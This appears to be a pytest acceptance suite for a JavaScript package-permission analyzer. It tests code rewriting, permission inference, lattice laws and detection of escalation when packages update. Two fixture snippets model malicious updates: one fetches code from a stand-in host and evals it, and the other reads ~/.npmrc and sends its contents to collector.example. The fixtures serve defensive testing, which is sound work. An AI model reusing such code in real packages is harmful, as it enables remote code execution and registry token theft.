"""Acceptance suite: the release criteria, one test per criterion, each
printing a PASS/FAIL line (run with -s to see them on success)."""

import glob
import itertools
import json
import os
import random
import time

import pytest

from pkgperm import permissions as P
from pkgperm.cli import audit_corpus, main as cli_main
from pkgperm.inference import infer_module
from pkgperm.js import analyze_scopes, parse_module
from pkgperm.rewriter import rewrite_module

from tests.conftest import CORPUS30, ESCALATION
from tests.test_depgraph import random_graph, reachable_union_oracle
from tests.test_rewriter import scan_unchecked_restricted_reads
from pkgperm.depgraph import compose_effective

EMPTY = frozenset()
SEED = 0x5EED


def report(name, ok, detail=""):
    tag = "PASS" if ok else "FAIL"
    print(f"ACCEPTANCE {tag}: {name}" + (f" ({detail})" if detail else ""))
    assert ok, f"{name}: {detail}"


# --- criterion 1: golden rewrites, byte-exact after name canonicalization ----

FIG4 = [
    ("z.cache;", "global['z']['cache']"),
    ("var x = b", "var x = global['b']"),
    ("var x = b\nx.foo()", "var x = global['b']\nx.foo()"),
    ('eval("...")', "$$prop(global, 'eval')('...')"),
    ("o[f()]", "$$prop(global['o'], global['f']())"),
    ('o["ma"+"in"]', "$$prop(global['o'], 'ma' + 'in')"),
]


def test_criterion_fig4_golden_rewrites():
    t0 = time.perf_counter()
    failures = []
    for src, expected in FIG4:
        res = rewrite_module(src, EMPTY, seed=SEED, module_path="fig4.js")
        got = res.code.replace(res.check_fn_name, "$$prop")
        if got != expected:
            failures.append(f"{src!r} -> {got!r} (want {expected!r})")
    elapsed = time.perf_counter() - t0
    report(
        "golden member-expression rewrites (6 rows, byte-exact)",
        not failures and elapsed < 1.0,
        "; ".join(failures) or f"{elapsed * 1000:.0f} ms",
    )


# --- criterion 2: malicious-update snippets infer exactly --------------------

SNIPPET_A = """var https = require("https");
https.get({ hostname: "paste.example", path: "/payload" },
  r => { r.on("data", c => { eval(c); }); }
).on("error", () => {});
"""

SNIPPET_B = """var fs = require("fs");
var npmrc = require("path").join("~", ".npmrc");
if (fs.existsSync(npmrc)) {
  var content = fs.readFileSync(npmrc, "utf8")
  var https = require("https");
  https.get({ hostname: "collector.example", method: "GET",
    headers: {Referer: "http://localhost/" + content}}, () => {}
  ).on("error", () => {});
}
"""


def test_criterion_attack_snippet_inference():
    def infer(src):
        ast = parse_module(src)
        return infer_module(ast, analyze_scopes(ast))[0]

    a = infer(SNIPPET_A)
    b = infer(SNIPPET_B)
    path_only = infer('var p = require("path"); p.join("a", "b")')
    ok = a == P.ALL_SET and b == frozenset({"filesystem", "network"}) and path_only == EMPTY
    report(
        "attack snippet inference (a={all}, b={filesystem,network}, path={})",
        ok,
        f"a={sorted(a)} b={sorted(b)} path={sorted(path_only)}",
    )


# --- criterion 3: lattice laws over all 16x16 raw pairs ----------------------


def test_criterion_lattice_exhaustive():
    tags = sorted(P.TAGS)
    raw = [frozenset(c) for r in range(5) for c in itertools.combinations(tags, r)]
    violations = []

    for s in raw:
        if P.normalize(P.normalize(s)) != P.normalize(s):
            violations.append(f"normalize not idempotent on {sorted(s)}")

    norm = [P.normalize(s) for s in raw]
    for a in norm:
        if not P.subset_of(a, a):
            violations.append(f"not reflexive: {sorted(a)}")
    for a, b in itertools.product(norm, norm):
        if P.subset_of(a, b) and P.subset_of(b, a) and a != b:
            violations.append(f"not antisymmetric: {sorted(a)} {sorted(b)}")
        j = P.union(a, b)
        if not (P.subset_of(a, j) and P.subset_of(b, j)):
            violations.append(f"union not an upper bound: {sorted(a)} {sorted(b)}")
    for a, b, c in itertools.product(norm, norm, norm):
        if P.subset_of(a, b) and P.subset_of(b, c) and not P.subset_of(a, c):
            violations.append(f"not transitive: {sorted(a)} {sorted(b)} {sorted(c)}")
        if P.import_allowed(a, b) and P.import_allowed(b, c) and not P.import_allowed(a, c):
            violations.append(f"import relation not transitive: {sorted(a)} {sorted(b)} {sorted(c)}")

    report("permission lattice laws (16x16 exhaustive)", not violations, "; ".join(violations[:3]))


# --- criterion 4: composition against the reachable-union oracle -------------


def test_criterion_composition_oracle():
    t0 = time.perf_counter()
    mismatches = 0
    for seed in range(200):
        g = random_graph(random.Random(seed))
        if compose_effective(g) != reachable_union_oracle(g):
            mismatches += 1
    elapsed = time.perf_counter() - t0
    report(
        "composition fixpoint vs reachable-union oracle (200 graphs)",
        mismatches == 0 and elapsed < 5.0,
        f"{mismatches} mismatches, {elapsed:.2f}s",
    )


# --- criterion 5: escalation detection on the pre/post attack pair -----------


def test_criterion_escalation_detection(capsys):
    argv = [
        "diff",
        os.path.join(ESCALATION, "day1"),
        os.path.join(ESCALATION, "day2"),
        os.path.join(ESCALATION, "root.json"),
        "--json",
        "--fail-on-increase",
    ]
    code = cli_main(argv)
    out = capsys.readouterr().out
    with capsys.disabled():
        lines = [json.loads(line) for line in out.strip().splitlines()]
        events = [l for l in lines if l.get("type") == "update"]
        ok = (
            code == 3
            and len(events) == 1
            and events[0]["class"] == "increased"
            and events[0]["oldEffective"] == []
        )
        report(
            "update escalation detection (pre={} post>pre, exit 3)",
            ok,
            f"exit={code} events={events}",
        )


# --- criterion 6: corpus audit soundness --------------------------------------


def test_criterion_corpus_soundness():
    with open(os.path.join(CORPUS30, "labels.json")) as fh:
        doc = json.load(fh)
    labels = {name: P.normalize(frozenset(tags)) for name, tags in doc["labels"].items()}
    _graph, effective, _cats = audit_corpus(CORPUS30)
    by_name = {pid.name: eff for pid, eff in effective.items()}

    unsound = [
        name for name, label in labels.items()
        if not P.subset_of(label, by_name[name])
    ]
    spurious = [
        name for name, label in labels.items()
        if by_name[name] == P.ALL_SET and label != P.ALL_SET
    ]
    ok = (
        len(labels) == 30
        and not unsound
        and len(spurious) <= 0.25 * len(labels)
    )
    report(
        "corpus audit soundness (30 packages, spurious-all within budget)",
        ok,
        f"unsound={unsound} spurious={len(spurious)}/30",
    )


# --- criterion 7: conservativeness of rewritten output -----------------------


def test_criterion_conservativeness_scan():
    offenders = []
    scanned = 0
    for path in sorted(glob.glob(os.path.join(CORPUS30, "*", "*.js"))):
        with open(path) as fh:
            src = fh.read()
        try:
            res = rewrite_module(src, EMPTY, seed=SEED, module_path=path)
        except Exception:
            continue  # unparsable fixture is instrumented as opaque elsewhere
        if res.skipped:
            continue
        scanned += 1
        for key, pos in scan_unchecked_restricted_reads(res.code):
            offenders.append(f"{os.path.basename(path)}:{pos}:{key}")
    for src, _ in FIG4:
        res = rewrite_module(src, EMPTY, seed=SEED, module_path="fig4.js")
        offenders.extend(
            f"fig4:{pos}:{key}" for key, pos in scan_unchecked_restricted_reads(res.code)
        )
    report(
        "conservativeness scan (zero unchecked restricted reads)",
        scanned > 0 and not offenders,
        "; ".join(offenders[:5]) or f"{scanned} modules scanned",
    )
